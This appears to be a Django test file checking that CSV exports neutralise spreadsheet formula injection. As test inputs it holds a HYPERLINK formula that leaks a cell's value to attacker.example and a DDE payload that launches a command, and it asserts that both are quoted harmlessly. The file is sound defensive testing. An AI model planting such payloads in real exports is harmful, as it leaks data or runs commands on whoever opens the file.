"""Issue 15, item 4: text a spreadsheet would run as a formula leaves every CSV neutralised; numbers stay numbers."""

import csv
import io

from django.urls import reverse

from core.spreadsheet import spreadsheet_cell
from tests.factories import AdminFactory

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&C2,"Details")'
DDE = "=cmd|' /C calc'!A0"


def test_formula_triggers_are_neutralised_and_numbers_are_not():
    for text in (HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_cell(text) == "'" + text
    for number in ("-100.00", "12.5", "0", "-3", "2025-03"):
        assert spreadsheet_cell(number) == number
    assert spreadsheet_cell("Pickled cabbage") == "Pickled cabbage"
    assert spreadsheet_cell("") == ""


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_insights_csv_downloads_carry_no_live_formula(client, world):
    world.p1.name = HYPERLINK
    world.p1.save(update_fields=["name"])
    world.f1.first_name, world.f1.last_name = DDE, ""
    world.f1.save(update_fields=["first_name", "last_name"])
    client.force_login(AdminFactory())

    def download(table, year):
        url = reverse("insights:csv", args=["village", world.v1.pk, table]) + f"?year={year}"
        return _rows(client.get(url))

    products = download("top_products", 2025)
    assert products[1][0] == "'" + HYPERLINK
    assert products[1][-1] == "230.00"  # the money column stays a number
    farmers = download("farmers", 2025)
    assert farmers[1][0] == "'" + DDE
    for row in [*products, *farmers]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    # A negative growth stays a negative number.
    assert download("yearly", 2026)[2][-1] == "-100.00"


def test_every_export_writes_through_the_helper():
    """No module of the apps but core.spreadsheet builds a CSV or spreadsheet writer of its own."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    apps = [folder for folder in root.iterdir() if (folder / "__init__.py").exists() and folder.name != "tests"]
    for path in (path for app in apps for path in app.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative == "core/spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if any(marker in text for marker in ("csv.writer(", "csv.DictWriter(", "openpyxl", "xlsxwriter")):
            offenders.append(relative)
    assert offenders == []
